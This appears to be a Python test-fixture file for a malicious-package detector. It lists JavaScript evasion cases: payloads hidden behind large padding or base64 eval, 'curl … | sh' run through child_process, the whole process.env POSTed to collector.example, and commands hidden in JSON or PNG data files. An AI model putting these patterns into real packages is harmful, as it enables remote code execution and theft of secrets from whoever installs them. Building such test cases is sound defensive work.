r"""More disguises: files of one line, values that are handed on, data files that run.

A case is as in `evasions_js`. Nothing here is ever run; hosts are examples.
"""

import hashlib

from evasions_js import RUN, Case, b64

_NOISE = b64("".join(hashlib.sha256(b"%d" % at).hexdigest() for at in range(1000)))
_PROSE = 'hello it\'s "yes" (a) [b]; {c}, d=1; '
_PADDED = RUN + ";" + "".join(f"var q{at}={at * 7919 % 100003};" for at in range(5000))
_COMMAND = "curl -fsSL https://collector.example/x | sh"
_POST = "fetch('https://collector.example/c',{method:'POST',body:%s})"

LARGE: dict[str, Case] = {
    "behind a text": f'var a="{_NOISE}";{RUN}',
    "behind a text of single quotes": f"var a='{_NOISE}';{RUN}",
    "behind a template": f"var a=`{_NOISE}`;{RUN}",
    "behind a pattern": f"var a=/{_NOISE.replace('/', '')}/;{RUN}",
    "behind a comment": f"/*{_NOISE.replace('/', '')}*/{RUN}",
    "behind escapes": 'var a="' + "\\x41" * 20_000 + f'";{RUN}',
    "between texts": f'var z="it";var a="{_NOISE}";var s="x";{RUN};var b="{_NOISE}";',
    "behind quotes in a text": "var a=`" + _PROSE * 2_500 + f"`;{RUN}",
    "behind quotes in double quotes": 'var a="' + _PROSE.replace('"', "`") * 2_500 + f'";{RUN}',
    "behind quotes in a comment": "/*" + _PROSE * 2_500 + f"*/{RUN}",
    "decoded from a name": f'var p="{b64(_PADDED)}";eval(Buffer.from(p,"base64").toString())',
    "decoded in the call": f'eval(Buffer.from("{b64(_PADDED)}","base64").toString())',
    "decoded on two lines": f'eval(Buffer.from("{b64(_PADDED)}"\n,"base64").toString())',
}
"""Files of more than 64 KiB, of one line or two."""

GIVEN: dict[str, Case] = {
    "promised module": f"import('child_process').then(c=>c.exec('{_COMMAND}'))",
    "promised and taken apart": "import('node:child_process')"
    f".then(({{exec}})=>exec('{_COMMAND}'))",
    "several promised": "Promise.all([import('os'),import('child_process')])"
    f".then(([o,c])=>c.exec('{_COMMAND}'))",
    "words by a shell": "require('child_process').spawn('curl',['https://collector.example/x',"
    "'|','sh'],{shell:true})",
    "member of this": "class A{constructor(){this.c=require('child_process')}"
    f"go(){{this.c.execSync('{_COMMAND}')}}}} new A().go()",
    "each of a list": f"['{_COMMAND}'].forEach(require('child_process').execSync)",
    "each of a map": f"new Map([['a','{_COMMAND}']]).forEach(require('child_process').execSync)",
    "each of a map that is filled": f"const m=new Map();m.set('a','{_COMMAND}');"
    "m.forEach(require('child_process').execSync)",
    "keys of a map": f"new Map([['{_COMMAND}',1]])"
    ".forEach((v,k)=>require('child_process').execSync(k))",
}
"""What starts processes, or what is started, is handed on."""

HARVEST: dict[str, Case] = {
    "in an object": _POST % "JSON.stringify({env:process.env})",
    "on a line of its own": _POST % "JSON.stringify(\n process.env\n)",
    "in a list": _POST % "JSON.stringify([process.env])",
    "on two lines": _POST % "JSON.stringify(process\n  .env)",
    "by a client": "require('axios').post('https://collector.example/c',{e:process.env})",
    "written": "const r=require('https').request({host:'collector.example',method:'POST'});"
    "r.write(JSON.stringify({h:require('os').hostname(),env:process.env}));r.end()",
    "by name": "const d={env:process.env,cwd:process.cwd()};" + _POST % "JSON.stringify(d)",
    "one by one": "const o=[];for(const k in process.env)o.push(k+'='+process.env[k]);"
    + _POST % "o.join('&')",
}
"""The whole environment is sent."""

_READ = "require('fs').readFileSync(__dirname+"
_CODE = RUN.encode()
PACKAGED: dict[str, dict[str, str | bytes]] = {
    "command of a text": {
        "index.js": f"require('child_process').execSync({_READ}'/c.txt','utf8'))",
        "c.txt": _COMMAND,
    },
    "command of a JSON that is read": {
        "index.js": f"require('child_process').execSync(JSON.parse({_READ}'/c.json')).c)",
        "c.json": f'{{"c":"{_COMMAND}"}}',
    },
    "all of a JSON": {
        "index.js": "const d=require('./d.json');require(d.m)[d.f](d.c)",
        "d.json": f'{{"m":"child_process","f":"execSync","c":"{_COMMAND}"}}',
    },
    "code of a JSON": {
        "index.js": "require('./data.json').a.forEach(eval)",
        "data.json": '{"a":["1"]}',
    },
    "code in a picture": {
        "index.js": f"eval({_READ}'/logo.png','latin1').slice(100))",
        "logo.png": b"\x89PNG\r\n\x1a\n" + bytes(92) + _CODE,
    },
    "code of a file by a path": {
        "index.js": "const fs=require('fs'),p=require('path');"
        "new Function(fs.readFileSync(p.join(__dirname,'data','x.dat')).toString())()",
        "data/x.dat": "1",
    },
    "code that is read later": {
        "index.js": "require('fs').readFile(__dirname+'/x.dat',(e,d)=>eval(String(d)))",
        "x.dat": "1",
    },
    "code in a template": {
        "index.js": f"eval(`${{{_READ}'/x.dat')}}`)",
        "x.dat": "1",
    },
    "code that is promised": {
        "index.js": "import {readFile} from 'fs/promises';"
        "readFile(new URL('x.dat',import.meta.url)).then(eval)",
        "x.dat": "1",
    },
    "command of a JSON that is imported": {
        "index.js": "import d from './d.json' with {type:'json'};"
        "import {execSync} from 'child_process';execSync(d.c)",
        "d.json": '{"c":"x"}',
    },
    "each command of a JSON": {
        "index.js": "Object.values(require('./d.json'))"
        ".forEach(c=>require('child_process').execSync(c))",
        "d.json": '{"c":"x"}',
    },
}
"""What an install runs holds no code: that is in a data file beside it."""
